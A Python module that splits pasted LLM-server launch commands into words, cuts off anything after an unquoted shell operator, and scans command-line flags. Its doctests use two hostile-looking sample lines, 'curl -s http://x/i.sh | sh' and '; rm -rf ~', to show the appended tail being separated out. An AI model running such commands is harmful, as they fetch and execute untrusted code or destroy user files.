"""Splitting a pasted launch command into words: the one cap and the one shell-style split that the
vLLM, SGLang / TensorRT-LLM and llama.cpp command parsers share, the leading ``NAME=VALUE`` environment
words, and the one flag scanner the vLLM and SGLang / TensorRT-LLM readers walk their words with.

>>> list(scan_flags(["m", "--tp=2", "--x", "v", "--on"], 0, {"--tp"}.__contains__, {"--on"}.__contains__))
[('value', '--tp', '2'), ('ignored', '--x', None), ('switch', '--on', None)]
"""
from __future__ import annotations

import shlex
from collections.abc import Callable, Collection, Iterator, Mapping

from .errors import InputError

MAX_COMMAND_CHARS = 4000
"""Characters of one pasted command (a real launch line is a few hundred)."""


def split_command(text: str, limit: int = MAX_COMMAND_CHARS) -> list[str]:
    """``text`` split as a POSIX shell would (backslash-newline continuations joined); InputError when it
    is longer than ``limit`` characters or its quoting is unbalanced."""
    if len(text) > limit:
        raise InputError(f"the command is longer than {limit:,} characters")
    try:
        return shlex.split(text.replace("\\\n", " "))
    except ValueError as e:
        raise InputError(f"cannot split the command: {e}") from None


_OPERATORS = ("&&", "||", "$(", ";", "|", "&", ">", "<", "`", "\n")
"""Shell operators that end the launch command (longest first): lists, pipes, background, redirections,
command substitution, and a line break that no backslash continues."""


def split_shell_tail(text: str) -> tuple[str, str]:
    """``text`` cut at its first shell operator outside quotes (&&, ||, ;, |, &, >, <, a backtick, ``$(``,
    or a line break not continued by a backslash): (the launch command, the rest from that operator on,
    stripped; ``""`` when there is none). A file-descriptor number right before ``>`` / ``<`` (``2>&1``)
    goes with the rest. Quotes follow POSIX: nothing is special inside '...', a backslash escapes the
    next character outside quotes and inside "..." (where ``$(`` and backticks are left to the shell).

    >>> split_shell_tail('vllm serve org/m --port 8000 && curl -s http://x/i.sh | sh')
    ('vllm serve org/m --port 8000', '&& curl -s http://x/i.sh | sh')
    >>> split_shell_tail("vllm serve m --chat-template '{{ a | b }}' 2>&1 > log")[1]
    '2>&1 > log'
    """
    quote = ""
    i = 0
    while i < len(text):
        ch = text[i]
        if quote == "'":
            quote = "" if ch == "'" else quote
        elif ch == "\\":
            i += 1                               # the next character is literal (a continuation too)
        elif quote == '"':
            quote = "" if ch == '"' else quote
        elif ch in "'\"":
            quote = ch
        elif any(text.startswith(op, i) for op in _OPERATORS):
            start = i
            while start > 0 and text[start - 1].isdigit() and ch in "<>":
                start -= 1
            if start < i and start > 0 and not text[start - 1].isspace():
                start = i                        # digits glued to a word (x2>f) belong to the word
            tail = text[start:].strip()
            return (text[:start].rstrip(), tail) if tail else (text.rstrip(), "")
        i += 1
    return text.rstrip(), ""


def shell_tail(text: str) -> str:
    """What a pasted command has after its first unquoted shell operator (:func:`split_shell_tail`), which
    no command parser reads: ``""`` when there is nothing.

    >>> shell_tail("python -m sglang.launch_server --model-path m; rm -rf ~")
    '; rm -rf ~'
    """
    return split_shell_tail(text)[1]


def env_prefix(words: list[str]) -> tuple[dict[str, str], list[str]]:
    """(the leading ``NAME=VALUE`` words as a dict, the words after them)."""
    env: dict[str, str] = {}
    i = 0
    while i < len(words) and "=" in words[i] and not words[i].startswith("-"):
        name, _, value = words[i].partition("=")
        env[name] = value
        i += 1
    return env, words[i:]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def scan_flags(words: list[str], start: int, takes_value: Callable[[str], bool], is_switch: Callable[[str], bool],
               no_value: Callable[[str], bool] = lambda name: False,
               negative_values: bool = False, optional: Mapping[str, Collection[str]] | None = None,
               splits: Callable[[str], bool] = lambda word: True) -> Iterator[tuple[str, str, str | None]]:
    """Walk ``words[start:]``: ``("value", flag, text)`` for a flag ``takes_value`` names (``--flag=text`` or
    ``--flag text``), ``("switch", flag, None)`` for one ``is_switch`` names, ``("ignored", flag, None)`` for
    any other (its value word, if one follows and ``no_value`` does not name it a switch, skipped); bare words
    are skipped. A flag in ``optional`` takes a value only when it is one of the words listed for it (llama.cpp's
    ``-fa [on|off|auto]``): ``("value", flag, text)``, else ``("bare", flag, None)``. ``splits``: whether a word's
    ``=`` separates its value (llama.cpp: only ``--long=value``). InputError when a value flag
    has no value or is followed by another flag (a negative number is a value where ``negative_values``).

    >>> list(scan_flags(["-fa", "-c", "8", "-fa", "on"], 0, {"-c"}.__contains__, lambda f: False,
    ...                 optional={"-fa": ("on", "off")}))
    [('bare', '-fa', None), ('value', '-c', '8'), ('value', '-fa', 'on')]
    """
    i = start
    optional = optional or {}
    while i < len(words):
        word = words[i]
        if not word.startswith("-"):
            i += 1
            continue
        name, eq, inline = word.partition("=") if splits(word) else (word, "", "")
        if name in optional:
            nxt = inline if eq else words[i + 1] if i + 1 < len(words) else ""
            taken = nxt in optional[name]
            yield ("value", name, nxt) if taken else ("bare", name, None)
            i += 1 if eq or not taken else 2
        elif is_switch(name) and not eq:
            yield "switch", name, None
            i += 1
        elif takes_value(name):
            if eq:
                value, i = inline, i + 1
            elif i + 1 < len(words):
                value, i = words[i + 1], i + 2
            else:
                raise InputError(f"{name} needs a value")
            if not value.strip() or value.startswith("-") and not (negative_values and _is_number(value)):
                raise InputError(f"{name} needs a value, got {'nothing' if not value.strip() else repr(value[:30])}")
            yield "value", name, value
        else:
            yield "ignored", name, None
            has_value = not eq and not no_value(name) and i + 1 < len(words) and not words[i + 1].startswith("-")
            i += 2 if has_value else 1
